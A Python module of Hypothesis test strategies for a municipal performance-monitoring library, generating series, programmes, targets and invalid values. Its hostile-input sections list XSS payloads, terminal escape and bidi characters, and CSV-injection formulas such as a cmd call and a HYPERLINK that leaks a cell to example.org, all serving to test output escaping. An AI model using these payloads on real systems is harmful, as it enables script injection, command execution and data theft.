"""Hypothesis strategies shared by the test modules."""

from __future__ import annotations

import datetime as dt
import decimal
import fractions
import itertools as _itertools
from typing import Any

import numpy as np
from hypothesis import strategies as st

import progmon as _pm

# ---------------------------------------------------------------------------
# Series for progmon.trend
# ---------------------------------------------------------------------------
#
# Values are a scale times "base" values that look like municipal figures:
# whole numbers (counts of reports), one decimal (percentages), or a fixed
# level plus small steps. Whole-number bases make ties, constant stretches
# and exact zeros likely. The scale (1, 1e9, 1e-9) tests magnitudes without
# turning a well-conditioned series into an ill-conditioned one: a relative
# tolerance of 1e-9 against the references only makes sense when the data
# themselves do not lose 1e-9 to cancellation.

SCALES = (1.0, 1e9, 1e-9)
MAX_LENGTH = 12


@st.composite
def base_values(draw: st.DrawFn, n: int) -> np.ndarray:
    """``n`` values in one of the shapes municipal figures come in."""
    kind = draw(st.sampled_from(["counts", "percent", "level", "constant", "zeros"]))
    if kind == "counts":
        values = draw(st.lists(st.integers(0, 40), min_size=n, max_size=n))
    elif kind == "percent":
        values = [v / 10 for v in draw(st.lists(st.integers(-500, 1000), min_size=n, max_size=n))]
    elif kind == "level":
        level = draw(st.integers(100, 10_000))
        values = [level + v for v in draw(st.lists(st.integers(-5, 5), min_size=n, max_size=n))]
    elif kind == "constant":
        values = [draw(st.integers(-20, 20)) / 4] * n
    else:
        values = [0.0] * n
    return np.asarray(values, dtype=np.float64)


@st.composite
def time_points(draw: st.DrawFn, n: int) -> np.ndarray:
    """``n`` non-decreasing times: yearly, with skipped years, repeated or all equal."""
    start = draw(st.integers(1990, 2020))
    kind = draw(st.sampled_from(["yearly", "skipped", "ties", "equal", "fractional"]))
    if kind == "yearly":
        steps = [1.0] * n
    elif kind == "skipped":
        steps = draw(st.lists(st.sampled_from([1.0, 2.0, 4.0]), min_size=n, max_size=n))
    elif kind == "ties":
        steps = draw(st.lists(st.sampled_from([0.0, 1.0, 2.0]), min_size=n, max_size=n))
    elif kind == "equal":
        steps = [0.0] * n
    else:
        steps = draw(st.lists(st.sampled_from([0.25, 0.5, 1.0]), min_size=n, max_size=n))
    return start + np.concatenate([[0.0], np.cumsum(steps[1:])]) if n else np.zeros(0)


@st.composite
def gaps(draw: st.DrawFn, n: int) -> np.ndarray:
    """A mask of missing points: none, a few, or all."""
    kind = draw(st.sampled_from(["none", "some", "some", "all"]))
    if kind == "none":
        return np.zeros(n, dtype=bool)
    if kind == "all":
        return np.ones(n, dtype=bool)
    return np.asarray(draw(st.lists(st.booleans(), min_size=n, max_size=n)), dtype=bool)


@st.composite
def series(draw: st.DrawFn, min_size: int = 0, max_size: int = MAX_LENGTH) -> np.ndarray:
    """One series of length ``min_size``..``max_size`` with NaN gaps and a scale."""
    n = draw(st.integers(min_size, max_size))
    values = draw(base_values(n)) * draw(st.sampled_from(SCALES))
    values[draw(gaps(n))] = np.nan
    return values


@st.composite
def timed_series(
    draw: st.DrawFn, min_size: int = 0, max_size: int = MAX_LENGTH
) -> tuple[np.ndarray, np.ndarray]:
    """``(t, y)``: times in years and one series of the same length."""
    y = draw(series(min_size, max_size))
    return draw(time_points(y.size)), y


@st.composite
def batches(
    draw: st.DrawFn, max_rows: int = 8, max_size: int = MAX_LENGTH
) -> tuple[np.ndarray, np.ndarray]:
    """``(t, y)`` with ``y`` of shape ``(rows, n)``: many series on one time axis.

    Rows mix all kinds of series, including all-NaN, constant and zero rows.
    """
    n = draw(st.integers(0, max_size))
    rows = draw(st.integers(1, max_rows))
    y = np.empty((rows, n))
    for row in range(rows):
        y[row] = draw(base_values(n)) * draw(st.sampled_from(SCALES))
        y[row, draw(gaps(n))] = np.nan
    return draw(time_points(n)), y


shares = st.one_of(
    st.sampled_from([0.0, 1.0, 0.5]),
    st.integers(0, 1000).map(lambda k: k / 1000),
    st.floats(0, 1, allow_nan=False, allow_subnormal=False),
)
sample_sizes = st.one_of(st.integers(1, 5000), st.floats(1, 1e5, allow_nan=False))


# ---------------------------------------------------------------------------
# Programmes for round trips
# ---------------------------------------------------------------------------
#
# Valid Programme values of every shape the model allows: ambitions, goals,
# indicators with figures, missing figures, margins, notes, sources and
# components, every kind of target, periods as years, months and ranges
# (with and without labels), resources, actions, sections, unicode text.
# Ids are unique within a programme; figures lie in the valid range of their
# unit (percent 0-100, mark 1-10, counts >= 0); targets agree with the
# direction; every period lies in 1990-2030 and every deadline after it, so
# that no deadline precedes a baseline.


texts = st.text(st.characters(exclude_categories=("Cs",)), max_size=24)
names = texts.filter(lambda text: bool(text.strip()))
# Ids name files and HTML anchors: no control or format characters, no line separators.
ID_REFUSED_CATEGORIES = ("Cc", "Cf", "Zl", "Zp", "Cs")
id_texts = st.text(st.characters(exclude_categories=ID_REFUSED_CATEGORIES), max_size=24)
id_names = id_texts.filter(lambda text: bool(text.strip()))
FIRST_YEAR, LAST_YEAR = 1990, 2030
deadlines = st.integers(LAST_YEAR + 1, LAST_YEAR + 20)

# (unit, lowest, highest) for figures; highest is finite so margins have a bound too.
UNITS = (
    ("report", 0.0, 1e6),
    ("crime", 0.0, 1e6),
    ("count", 0.0, 1e4),
    ("inhabitant", 0.0, 1e7),
    ("percent", 0.0, 100.0),
    ("mark", 1.0, 10.0),
    ("report / thousand_inhabitants", 0.0, 1e3),
    ("EUR", -1e9, 1e9),
    ("fte", 0.0, 1e3),
    # Counts beyond 2**53, which a float cannot hold exactly: kept as ints.
    ("incident", 0.0, float(2**60)),
)


def _numbers(low: float, high: float) -> st.SearchStrategy[Any]:
    # Whole numbers, one decimal (as municipal figures are), and any float;
    # also as ints (beyond 2**53 where the range allows), -0.0, and as the
    # Decimal and Fraction values that databases and spreadsheets hand over.
    whole = st.integers(int(np.ceil(low)), int(high))
    tenths = st.integers(int(np.ceil(low * 10)), int(high * 10))
    return st.one_of(
        whole.map(float),
        tenths.map(lambda k: k / 10),
        st.floats(low, high, allow_nan=False, allow_infinity=False),
        whole,
        st.just(-0.0) if low <= 0 <= high else st.nothing(),
        tenths.map(lambda k: decimal.Decimal(k) / 10),
        tenths.map(lambda k: fractions.Fraction(k, 10)),
    )


def _negated(number: Any) -> Any:
    """``-number``, in its own type (a Decimal does not multiply with a float sign)."""
    return -number


@st.composite
def periods(draw: st.DrawFn) -> _pm.Period:
    """A year, a month or a range of days, with or without a label of its own."""
    label = draw(st.none() | texts)
    year = draw(st.integers(FIRST_YEAR, LAST_YEAR))
    kind = draw(st.sampled_from(["year", "month", "range", "years"]))
    if kind == "year":
        return _pm.Period.year(year, label=label)
    if kind == "month":
        return _pm.Period.month(year, draw(st.integers(1, 12)), label=label)
    if kind == "years":
        last = draw(st.integers(year, LAST_YEAR))
        return _pm.Period.between(dt.date(year, 1, 1), dt.date(last, 12, 31), label=label)
    start = draw(st.dates(dt.date(FIRST_YEAR, 1, 1), dt.date(LAST_YEAR, 12, 31)))
    end = draw(st.dates(start, dt.date(LAST_YEAR, 12, 31)))
    return _pm.Period.between(start, end, label=label)


sources = st.builds(
    _pm.Source,
    title=texts,
    publisher=texts,
    year=st.none() | st.integers(1900, 2100),
    url=texts,
    note=texts,
)
# Sources are often shared between figures (one report, many figures): a few fixed ones make that likely.
shared_sources = st.sampled_from(
    [
        _pm.Source("Politie jaarcijfers 2019", publisher="Politie", year=2019),
        _pm.Source("Veiligheidsmonitor", publisher="CBS", url="https://www.cbs.nl"),
        _pm.Source("Burgerpanel"),
    ]
)


class Ids:
    """Ids unique within one programme: drawn text plus a running number."""

    def __init__(self) -> None:
        self._numbers = _itertools.count()

    def draw(self, draw: st.DrawFn) -> str:
        # The separator keeps "1" + 3 and "" + 13 apart: the number after the last "-" is unique.
        return f"{draw(id_texts)}-{next(self._numbers)}"


@st.composite
def measurements(draw: st.DrawFn, low: float, high: float) -> tuple[_pm.Measurement, ...]:
    """Figures for periods that do not overlap, some missing (with a note), in ``[low, high]``."""
    drawn = draw(st.lists(periods(), max_size=5))
    chosen: list[_pm.Period] = []
    for period in drawn:
        if all(period.end < other.start or other.end < period.start for other in chosen):
            chosen.append(period)
    result = []
    for period in chosen:
        missing = draw(st.booleans().map(lambda b: b and draw(st.booleans())))
        result.append(
            _pm.Measurement(
                period,
                None if missing else draw(_numbers(low, high)),
                margin=draw(st.none() | _numbers(0.0, high - low)),
                sample_size=draw(st.none() | st.integers(1, 100_000)),
                source=draw(st.none() | sources | shared_sources),
                note=draw(texts),
                provisional=draw(st.booleans()),
            )
        )
    return tuple(result)


@st.composite
def indicators(draw: st.DrawFn, ids: Ids | None = None, *, depth: int = 1) -> _pm.Indicator:
    """A valid indicator, its target consistent with its direction and baseline."""
    ids = ids or Ids()
    unit, low, high = draw(st.sampled_from(UNITS))
    figures = draw(measurements(low, high))
    measured = [m for m in figures if m.value is not None]
    baseline = draw(st.none() | st.sampled_from(measured)) if measured else None
    direction = draw(st.none() | st.sampled_from(list(_pm.Direction)))
    by = draw(st.none() | deadlines)
    base = baseline or min(measured, key=lambda m: m.period, default=None)
    base_value = None if base is None else getattr(base.value, "magnitude", base.value)
    # Without a direction, only a target that implies one: a change that is not zero, a
    # norm, or a level that differs from the baseline figure (issue 10).
    kinds = ["none", "change", "relative"]
    if direction is not None:
        kinds += ["improve", "maintain", "level"]
    elif base_value is not None:
        kinds.append("level")
    if direction is not _pm.Direction.DECREASE:
        kinds.append("at_least")
    if direction is not _pm.Direction.INCREASE:
        kinds.append("at_most")
    kind = draw(st.sampled_from(kinds))
    sign = 1.0 if direction is not _pm.Direction.DECREASE else -1.0
    target: _pm.Target | None = None
    if kind == "change":
        amount = draw(_numbers(0.0, high - low))
        if direction is None and amount == 0:
            amount = high - low or 1.0
        negative = sign < 0 if direction is not None else draw(st.booleans())
        target = _pm.Change(_negated(amount) if negative else amount, by=by)
    elif kind == "relative":
        fraction = draw(st.floats(0.0, 0.99, allow_nan=False))
        if direction is None and fraction == 0:
            fraction = 0.5
        # A fraction of a negative baseline (a deficit in EUR) moves the other way.
        base_sign = -1.0 if base_value is not None and base_value < 0 else 1.0
        target = _pm.RelativeChange(
            fraction * sign * base_sign if direction is not None else -fraction, by=by
        )
    elif kind == "maintain":
        target = _pm.Maintain(by=by)
    elif kind == "improve":
        target = _pm.Improve(by=by)
    elif kind == "level":
        value = draw(_numbers(low, high))
        if direction is None and base_value is not None and float(value) == float(base_value):
            direction = _pm.Direction.INCREASE  # a level equal to the baseline says no way
        target = _pm.Level(value, by=by)
    elif kind == "at_least":
        target = _pm.AtLeast(draw(_numbers(low, high)), by=by)
    elif kind == "at_most":
        target = _pm.AtMost(draw(_numbers(low, high)), by=by)
    components: list[_pm.Indicator] = []
    if depth > 0 and draw(st.integers(0, 3)) == 0:
        for _ in range(draw(st.integers(1, 2))):
            part = draw(indicators(ids, depth=depth - 1))
            components.append(
                _pm.Indicator(
                    id=part.id,
                    name=part.name,
                    unit=unit,
                    measurements=draw(measurements(max(low, 0.0), high)),
                    note=part.note,
                )
            )
    return _pm.Indicator(
        id=ids.draw(draw),
        name=draw(names),
        unit=unit,
        measurements=figures,
        target=target,
        direction=direction,
        baseline=None if baseline is None else baseline.period,
        kind=draw(st.sampled_from(list(_pm.IndicatorKind))),
        description=draw(texts),
        note=draw(texts),
        source=draw(st.none() | sources | shared_sources),
        components=components,
    )


@st.composite
def goals(draw: st.DrawFn, ids: Ids | None = None) -> _pm.Goal:
    ids = ids or Ids()
    return _pm.Goal(
        id=ids.draw(draw),
        statement=draw(names),
        indicators=draw(st.lists(indicators(ids), max_size=3)),
        deadline=draw(st.none() | deadlines),
        title=draw(texts),
        results=draw(texts),
        note=draw(texts),
    )


sections = st.builds(
    _pm.Section,
    title=texts,
    paragraphs=st.lists(texts, max_size=3),
    bullets=st.lists(texts, max_size=3),
)
actions = st.builds(_pm.Action, description=names, period=st.none() | periods(), note=texts)
resources = st.builds(
    _pm.Resource,
    purpose=names,
    amount=st.one_of(
        _numbers(0.0, 1e8).map(lambda v: _pm.units.Quantity(v, "EUR")),
        _numbers(0.0, 100.0).map(lambda v: _pm.units.Quantity(v, "fte")),
    ),
    period=st.none() | periods(),
    incidental=st.booleans(),
    note=texts,
)


@st.composite
def ambitions(draw: st.DrawFn, ids: Ids | None = None) -> _pm.Ambition:
    ids = ids or Ids()
    context = [
        _as_context(indicator) for indicator in draw(st.lists(indicators(ids, depth=0), max_size=2))
    ]
    return _pm.Ambition(
        title=draw(names),
        goals=draw(st.lists(goals(ids), max_size=3)),
        description=draw(texts),
        actions=draw(st.lists(actions, max_size=2)),
        resources=draw(st.lists(resources, max_size=2)),
        context=context,
        sections=draw(st.lists(sections, max_size=2)),
    )


def _as_context(indicator: _pm.Indicator) -> _pm.Indicator:
    return indicator.evolve(kind=_pm.IndicatorKind.CONTEXT)


@st.composite
def programmes(draw: st.DrawFn) -> _pm.Programme:
    """A valid programme; ids are unique within it."""
    ids = Ids()
    return _pm.Programme(
        id=ids.draw(draw) if draw(st.booleans()) else draw(id_names),
        name=draw(names),
        ambitions=draw(st.lists(ambitions(ids), max_size=2)),
        organisation=draw(texts),
        number=draw(texts),
        period=draw(st.none() | periods()),
        review=draw(texts),
        summary=draw(texts),
        sections=draw(st.lists(sections, max_size=2)),
        language=draw(st.sampled_from(["nl", "en"])),
    )


# Model values for properties of the domain model ----------------------------------------

#: Pairs of (indicator unit, a compatible unit to give values in, valid range in the indicator unit).
COMPATIBLE_UNITS = (
    ("percent", "dimensionless", (0.0, 100.0)),
    ("percent", "permille", (0.0, 100.0)),
    ("dimensionless", "percent", (0.0, 1.0)),
    ("report", "crime", (0.0, 1e9)),
    ("report / thousand_inhabitants", "report / inhabitant", (0.0, 1e6)),
    ("EUR", "euro", (-1e12, 1e12)),
    ("fte", "fte", (0.0, 1e5)),
    ("mark", "mark", (1.0, 10.0)),
)


def calendar_years(min_value: int = 1990, max_value: int = 2040) -> st.SearchStrategy[int]:
    """Calendar years as plain ints, as the model accepts them."""
    return st.integers(min_value=min_value, max_value=max_value)


@st.composite
def figures_in_range(
    draw: st.DrawFn, low: float, high: float, *, min_size: int = 0, max_size: int = 8
) -> dict[int, float]:
    """Figures by year, every value finite and within ``low`` to ``high``."""
    chosen = draw(st.lists(calendar_years(), min_size=min_size, max_size=max_size, unique=True))
    values = st.floats(min_value=low, max_value=high, allow_nan=False, allow_infinity=False)
    return {year: draw(values) for year in chosen}


#: Values that no figure may have.
NON_FINITE = st.sampled_from([float("nan"), float("inf"), float("-inf")])


@st.composite
def out_of_range(draw: st.DrawFn) -> tuple[str, float]:
    """A unit with bounds and a value outside them."""
    unit, low, high = draw(
        st.sampled_from(
            [
                ("percent", 0.0, 100.0),
                ("mark", 1.0, 10.0),
                ("dimensionless", 0.0, 1.0),
                ("report", 0.0, None),
            ]
        )
    )
    below = st.floats(
        max_value=low, exclude_max=True, allow_nan=False, allow_infinity=False, min_value=-1e9
    )
    above = (
        st.floats(
            min_value=high, exclude_min=True, allow_nan=False, allow_infinity=False, max_value=1e9
        )
        if high is not None
        else st.nothing()
    )
    return unit, draw(below | above)


#: Values that are not text: where the model asks for a string, each is refused.
NOT_TEXT = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=False),
    st.lists(st.text(max_size=3), max_size=2),
    st.just(b"bytes"),
)

#: Values that are not a sequence of model values: a single value, None, text, a mapping.
NOT_A_SEQUENCE = st.one_of(
    st.none(),
    st.integers(),
    st.text(min_size=1, max_size=5),
    st.dictionaries(st.integers(2000, 2030), st.integers(0, 10), min_size=1, max_size=2),
)


# Figures and methods for assessment properties ----------------------------------------

#: Latest figures of a series, non-negative as counts and shares are.
figure_values = st.floats(min_value=0.0, max_value=1000.0, allow_nan=False)
#: +1 where more is better, -1 where less is.
direction_signs = st.sampled_from([-1, 1])
#: The names of the assessment methods.
method_names = st.sampled_from(["growth-ratio", "projection", "pro-rata"])
#: Strictly positive values, where growth rates are defined.
positive_values = st.floats(min_value=0.01, max_value=1e6, allow_nan=False)


# ---------------------------------------------------------------------------
# Hostile text for the review (tests/test_hostile_report.py)
# ---------------------------------------------------------------------------
#
# Any text but lone surrogates (the model refuses those), with the pieces
# that try hardest to become markup or to steer a terminal made likely: tags
# and attribute breakers, entities, Markdown links, images and code fences,
# control characters, bidirectional overrides, isolates and marks, line and
# paragraph separators; and characters that must stay as they are (a soft
# hyphen, a joiner, an emoji, a right-to-left script).

HOSTILE_PIECES = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table>",
    '" onmouseover="alert(1)',
    "' x='",
    "&amp;",
    "&lt;b&gt;",
    "![x](http://tracker/p.png)",
    "[click](javascript:alert(1))",
    "```",
    "~~~",
    "\\",
    "|",
    "\x1b[2J",
    "\x00",
    "\x07",
    "\x7f",
    "\x85",
    "\x9b",
    "\r\n",
    "\n\n",
    "\t",
    "\u202e",
    "\u202d",
    "\u2066",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u2028",
    "\u2029",
    "\u00ad",
    "\u200d",
    "\ufeff",
    "\U0001f600",
    "\u05e9\u05dc\u05d5\u05dd",
)
hostile_texts = st.lists(
    st.one_of(
        st.text(st.characters(exclude_categories=("Cs",)), max_size=8),
        st.sampled_from(HOSTILE_PIECES),
    ),
    max_size=8,
).map("".join)
hostile_names = hostile_texts.filter(lambda text: bool(text.strip()))


# ---------------------------------------------------------------------------
# Hostile values for the model and the files (test_model_properties.py, test_io_files.py)
# ---------------------------------------------------------------------------
#
# Texts with a lone surrogate somewhere (no file can hold them: the model
# refuses them in every text field), free texts with everything else,
# whole numbers beyond what a float holds exactly, and values of the wrong
# type for each kind of field.

#: Any text the model keeps in a note or a name: everything but lone surrogates.
free_texts = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)
free_names = free_texts.filter(lambda text: bool(text.strip()))

lone_surrogates = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)


@st.composite
def with_lone_surrogate(draw: st.DrawFn, texts: st.SearchStrategy[str] = id_names) -> str:
    """A text from ``texts`` with a lone surrogate put in at any place."""
    text = draw(texts)
    at = draw(st.integers(0, len(text)))
    return text[:at] + draw(lone_surrogates) + text[at:]


#: Whole numbers that a float cannot hold exactly, up to the largest float.
big_ints = st.integers(2**53 + 1, 2**1000).filter(lambda n: float(n) != n) | st.integers(
    -(2**1000), -(2**53) - 1
).filter(lambda n: float(n) != n)

#: Values that are no number: texts that look like one, bools, containers, complex.
NOT_A_NUMBER = st.one_of(
    st.sampled_from(["0.9", "7,5", "1e3", "", "abc", "nan"]),
    st.booleans(),
    st.just(np.bool_(True)),
    st.lists(st.integers(0, 9), min_size=1, max_size=3),
    st.dictionaries(st.text(max_size=2), st.integers(), max_size=2),
    st.complex_numbers(allow_nan=False, allow_infinity=False).filter(lambda z: z.imag != 0),
    st.just(b"5"),
)

#: Values that are no year: floats, texts, bools, ints outside 1800-2200, Decimals.
NOT_A_YEAR = st.one_of(
    st.floats(1800, 2200),
    st.sampled_from(["2019", "", "MMXIX"]),
    st.booleans(),
    st.integers(max_value=1799),
    st.integers(min_value=2201),
    st.integers(1800, 2200).map(decimal.Decimal),
)

#: Values that are no period: floats, bools, dates as texts Python cannot read, containers.
NOT_A_PERIOD = st.one_of(
    st.floats(allow_nan=False),
    st.booleans(),
    st.sampled_from(["2019-13", "19", "2019/12", "december", "2019-02-30/2019-03-01", ""]),
    st.lists(st.integers(2000, 2030), min_size=1, max_size=2),
    st.integers(max_value=1799),
)


# ---------------------------------------------------------------------------
# Targets as councils set them (tests/test_targets.py, tests/test_methods.py)
# ---------------------------------------------------------------------------
#
# A series with a target of every kind, built so that it can be assessed two
# ways: as an Indicator (TargetCase.indicator) and as the arrays of
# assess_panel (the other fields). The value each target requires, the
# direction it implies and the rule that judges it are worked out here from
# their definitions (a level is itself, a change is added to the baseline, a
# relative change multiplies it; a level above the baseline asks for more; a
# norm fixes its direction), not asked of progmon.

import dataclasses as _dataclasses  # noqa: E402  # this section's own, kept with it

#: The kinds of target a council sets, by the name the strategies use ("none": a direction only).
TARGET_KINDS = (
    "none",
    "level",
    "at_least",
    "at_most",
    "change",
    "relative_change",
    "improve",
    "maintain",
)
#: Units for target cases, with the range of their figures: counts, money (signed), marks.
TARGET_UNITS = {"count": (0.0, 1000.0), "EUR": (-1000.0, 1000.0), "mark": (1.0, 10.0)}
#: Relative changes as councils write them: "10 % fewer", "half as much again".
RELATIVE_FRACTIONS = (-0.5, -0.25, -0.1, 0.1, 0.2, 0.5)


@_dataclasses.dataclass(frozen=True)
class TargetCase:
    """One series with its target, as an Indicator and as the numbers of a panel row.

    ``required`` is the value the target requires (NaN without a quantitative
    target), ``kind`` the :class:`~progmon.assessment.Kind` code of its rule,
    ``sign`` the direction (+1 more is better, -1 less, 0 unknown),
    ``deadline`` the target's year (None: none), ``milestones`` the pairs
    (year, value), ``as_of`` the year of the assessment.
    """

    indicator: _pm.Indicator
    years: tuple[int, ...]
    values: tuple[float, ...]
    margins: tuple[float | None, ...] | None
    required: float
    kind: int
    sign: int
    deadline: int | None
    milestones: tuple[tuple[int, float], ...]
    as_of: int


def _figures(low: float, high: float) -> st.SearchStrategy[float]:
    """Figures as municipalities publish them: whole numbers and one decimal."""
    # Rounded inwards, so that every figure lies within [low, high].
    return st.one_of(
        st.integers(int(np.ceil(low)), int(np.floor(high))).map(float),
        st.integers(int(np.ceil(low * 10 - 1e-9)), int(np.floor(high * 10 + 1e-9))).map(
            lambda k: k / 10
        ),
    )


def _above_zero(value: float) -> bool:
    return value > 0


@st.composite
def target_cases(
    draw: st.DrawFn,
    units: tuple[str, ...] = tuple(TARGET_UNITS),
    *,
    min_figures: int = 1,
    margins: bool = True,
    kinds: tuple[str, ...] = TARGET_KINDS,
) -> TargetCase:
    """A series of 1-5 yearly figures with a target of one of ``kinds``, valid by the model's rules."""
    kind_of = _pm.assessment.Kind
    unit = draw(st.sampled_from(units))
    low, high = TARGET_UNITS[unit]
    figures = _figures(low, high)
    n = draw(st.integers(min_figures, 5))
    years = tuple(
        sorted(draw(st.lists(st.integers(2010, 2024), min_size=n, max_size=n, unique=True)))
    )
    values = tuple(draw(figures) for _ in years)
    base = values[0]
    drawn_margins = None
    if margins and draw(st.booleans()):
        drawn_margins = tuple(draw(st.none() | _figures(0.0, 3.0)) for _ in years)
    kind = draw(st.sampled_from(kinds))
    by = draw(st.none() | st.integers(years[0], 2030))
    directions = st.none() | st.sampled_from(list(_pm.Direction))
    direction: _pm.Direction | None = None
    target: _pm.Target | None = None
    required = float("nan")
    if kind == "none":
        direction = draw(directions)
        code, sign = kind_of.TREND, 0 if direction is None else direction.sign
    elif kind == "level":
        value = draw(figures)
        direction = draw(directions)
        if direction is None and value == base:
            direction = _pm.Direction.INCREASE  # a level equal to the baseline says no way
        target, required, code = _pm.Level(value, by=by), value, kind_of.LEVEL
        sign = direction.sign if direction is not None else (1 if value > base else -1)
    elif kind in {"at_least", "at_most"}:
        value = draw(figures)
        fixed = _pm.Direction.INCREASE if kind == "at_least" else _pm.Direction.DECREASE
        direction = draw(st.sampled_from([None, fixed]))
        norm = _pm.AtLeast if kind == "at_least" else _pm.AtMost
        target, required, code, sign = norm(value, by=by), value, kind_of.NORM, fixed.sign
    elif kind == "change":
        amount = draw(_figures(-(high - low) / 2, (high - low) / 2).filter(bool))
        sign = 1 if amount > 0 else -1
        direction = draw(st.sampled_from([None, _pm.Direction.of_sign(sign)]))
        target, required, code = _pm.Change(amount, by=by), base + amount, kind_of.LEVEL
    elif kind == "relative_change":
        fraction = draw(st.sampled_from(RELATIVE_FRACTIONS))
        # A fraction of a deficit moves the other way: half of -100 more is -150, a way down.
        sign = 1 if fraction * (-1 if base < 0 else 1) > 0 else -1
        direction = draw(st.sampled_from([None, _pm.Direction.of_sign(sign)]))
        target = _pm.RelativeChange(fraction, by=by)
        required, code = base * (1 + fraction), kind_of.LEVEL
    else:
        direction = draw(st.sampled_from(list(_pm.Direction)))
        sign = direction.sign
        if kind == "improve":
            target, code = _pm.Improve(by=by), kind_of.IMPROVE
        else:
            target, code = _pm.Maintain(by=by), kind_of.MAINTAIN
    milestones: tuple[tuple[int, float], ...] = ()
    if code in {kind_of.LEVEL, kind_of.NORM} and by is not None and by - years[0] > 1:
        chosen = draw(
            st.lists(st.integers(years[0] + 1, by - 1), max_size=2, unique=True).map(sorted)
        )
        milestones = tuple((year, draw(figures)) for year in chosen)
    indicator = _pm.Indicator(
        id="x",
        name="X",
        unit=unit,
        measurements=[
            _pm.Measurement(year, value, margin=None if drawn_margins is None else margin)
            for year, value, margin in zip(
                years, values, drawn_margins or (None,) * len(years), strict=True
            )
        ],
        target=target,
        direction=direction,
        milestones=[_pm.Level(value, by=year) for year, value in milestones],
    )
    return TargetCase(
        indicator=indicator,
        years=years,
        values=values,
        margins=drawn_margins,
        required=required,
        kind=int(code),
        sign=sign,
        deadline=by if target is not None else None,
        milestones=milestones,
        as_of=draw(st.integers(years[0], years[-1])),
    )


#: How far a latest figure moves for the better, in the unit of the series.
shifts_for_the_better = st.integers(1, 10_000).map(lambda k: k / 10)


@st.composite
def holding_norms(draw: st.DrawFn) -> tuple[_pm.Indicator, float, int]:
    """``(indicator, norm, sign)``: a norm (AtLeast or AtMost) that the latest figure meets.

    Figures are above zero (compound growth is defined); earlier figures, the
    baseline among them, may lie on either side of the norm.
    """
    unit, low, high = draw(
        st.sampled_from([("mark", 1.0, 10.0), ("percent", 0.1, 100.0), ("count", 0.1, 1000.0)])
    )
    sign = draw(st.sampled_from([1, -1]))
    norm = draw(_figures(max(low, 1.0), high))
    latest = draw(_figures(norm, high) if sign > 0 else _figures(low, norm).filter(_above_zero))
    n = draw(st.integers(1, 4))
    years = sorted(draw(st.lists(st.integers(2010, 2024), min_size=n, max_size=n, unique=True)))
    earlier = [draw(_figures(low, high).filter(_above_zero)) for _ in years[:-1]]
    fixed = _pm.Direction.of_sign(sign)
    kind = _pm.AtLeast if sign > 0 else _pm.AtMost
    indicator = _pm.Indicator(
        id="norm",
        name="Norm",
        unit=unit,
        measurements=[
            _pm.Measurement(year, value)
            for year, value in zip(years, [*earlier, latest], strict=True)
        ],
        target=kind(norm, by=draw(st.none() | st.integers(years[0], 2030))),
        direction=draw(st.sampled_from([None, fixed])),
    )
    return indicator, norm, sign


@st.composite
def near_limit_series(draw: st.DrawFn) -> tuple[str, int, float, float, int]:
    """``(unit, sign, base, latest, years)``: a share or a mark near its bound in the better direction.

    Shares from 50 % to 100 % that should rise, or from just above 0 % that
    should fall; marks from 5 to 10 that should rise, or from 1 to 3 that
    should fall. All above zero, as compound growth needs.
    """
    unit = draw(st.sampled_from(["percent", "mark"]))
    sign = draw(st.sampled_from([1, -1]))
    low, high = (0.1, 100.0) if unit == "percent" else (1.0, 10.0)
    if sign > 0:
        near = (high / 2, high)
    else:
        near = (low, 10.0) if unit == "percent" else (low, 3.0)
    base = draw(st.one_of(_figures(*near), st.floats(*near, allow_nan=False)).filter(_above_zero))
    latest = draw(
        st.one_of(_figures(low, high), st.floats(low, high, allow_nan=False)).filter(_above_zero)
    )
    return unit, sign, base, latest, draw(st.integers(1, 8))


# ---------------------------------------------------------------------------
# Tables out (issue 12)
# ---------------------------------------------------------------------------
#
# Texts that a spreadsheet would take for a formula (OWASP, "CSV Injection"),
# near misses that it would not, and cells of every type a table holds, for
# the CSV export; programmes with their assessment, for the status tables.

#: The characters that start a formula, alone or after white space.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", " =", "  +", "\n-", "\u00a0@", "\t=")
formula_texts = st.one_of(
    st.tuples(st.sampled_from(FORMULA_STARTS), texts).map("".join),
    st.sampled_from(
        [
            '=HYPERLINK("http://example.org/?x="&A1,"klik")',
            "=cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "-5",
            "=",
            "-",
            "'=al ontmijnd",
            "a=b",
            "e-mail: -",
        ]
    ),
)
table_texts = st.one_of(texts, formula_texts)
table_cells = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-(2**70), 2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    table_texts,
    st.dates(),
)


@st.composite
def assessed_programmes(
    draw: st.DrawFn,
) -> tuple[_pm.Programme, _pm.ProgrammeAssessment]:
    """A valid programme and its assessment, as of a year of its figures' range, by any method."""
    programme = draw(programmes())
    as_of = draw(st.integers(FIRST_YEAR, LAST_YEAR))
    return programme, _pm.assess(programme, as_of=as_of, method=draw(method_names))


# ---------------------------------------------------------------------------
# Plausibility checks (issue 12, test_plausibility.py)
# ---------------------------------------------------------------------------
#
# Series of figures as municipal tables hold them (whole counts, tenths,
# any float), with zeros and missing figures among them, and the steps from
# one figure to the next drawn on their own, so that a series with no
# tenfold step can be asked for.

#: (unit, lowest, highest) of the figures of series that the plausibility checks read.
PLAUSIBILITY_UNITS = (("report", 0.0, 1e6), ("EUR", -1e6, 1e6), ("percent", 0.0, 100.0))


@st.composite
def plausibility_series(
    draw: st.DrawFn, unit: str | None = None, *, min_size: int = 0, max_size: int = 8
) -> tuple[str, list[float | None]]:
    """A unit and the figures of consecutive years in its range; None is a missing figure."""
    if unit is None:
        unit = draw(st.sampled_from([u for u, _, _ in PLAUSIBILITY_UNITS]))
    low, high = next((lo, hi) for u, lo, hi in PLAUSIBILITY_UNITS if u == unit)
    figure = st.one_of(
        st.integers(int(low), int(high)).map(float),
        st.integers(int(low * 10), int(high * 10)).map(lambda k: k / 10),
        st.floats(low, high, allow_nan=False, allow_subnormal=False),
        st.just(0.0),
    )
    values = draw(st.lists(st.none() | figure, min_size=min_size, max_size=max_size))
    return unit, values


@st.composite
def series_without_tenfold_steps(
    draw: st.DrawFn, *, max_size: int = 8
) -> tuple[str, list[float | None]]:
    """Figures of consecutive years whose every step is less than tenfold, zeros and gaps among them.

